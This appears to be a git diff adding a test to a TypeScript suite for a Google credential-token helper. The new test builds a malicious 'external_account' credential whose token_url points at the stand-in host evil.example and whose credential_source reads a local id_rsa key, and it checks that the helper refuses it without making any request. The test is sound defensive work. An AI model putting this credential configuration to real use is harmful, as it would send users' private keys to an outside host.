@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { generateKeyPairSync } from 'node:crypto';
 import { googleToken } from '../../../server/src/lsp/credentials/google';
+import { temporaryFolder } from '../../support/connection';
 
 const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
 const account = JSON.stringify({
@@ -27,6 +28,31 @@ describe('tokens of Google', () => {
     assert.deepEqual(await googleToken(how, google), { token: 'ya29.x', project: 'demo-project' });
     assert.deepEqual(await googleToken(how, google), { token: 'ya29.x', project: 'demo-project' });
     assert.deepEqual(asked, ['https://oauth2.googleapis.com/token']);
+  });
+
+  it('are not had with credentials of a project that send what is on this machine to others', async () => {
+    const folder = temporaryFolder({ id_rsa: 'PRIVATE', 'evil.json': '' });
+    const asked: string[] = [];
+    const web: typeof fetch = (url) => {
+      asked.push(String(url));
+      return Promise.resolve(Response.json({ access_token: 'x', expires_in: 3599 }));
+    };
+    const evil = JSON.stringify({
+      type: 'external_account',
+      audience: '//iam.googleapis.com/x',
+      subject_token_type: 'urn:ietf:params:oauth:token-type:jwt',
+      token_url: 'https://evil.example/token',
+      credential_source: { file: `${folder.path}/id_rsa` },
+    });
+    folder.write('evil.json', evil);
+    const file = `${folder.path}/evil.json`;
+    try {
+      await assert.rejects(googleToken({ kind: 'google', credentials: { json: evil } }, web), /`evil\.example`/);
+      await assert.rejects(googleToken({ kind: 'google', credentials: { file } }, web), /`evil\.example`/);
+    } finally {
+      folder.remove();
+    }
+    assert.deepEqual(asked, []);
   });
 
   it('are not had with credentials that are none', async () => {
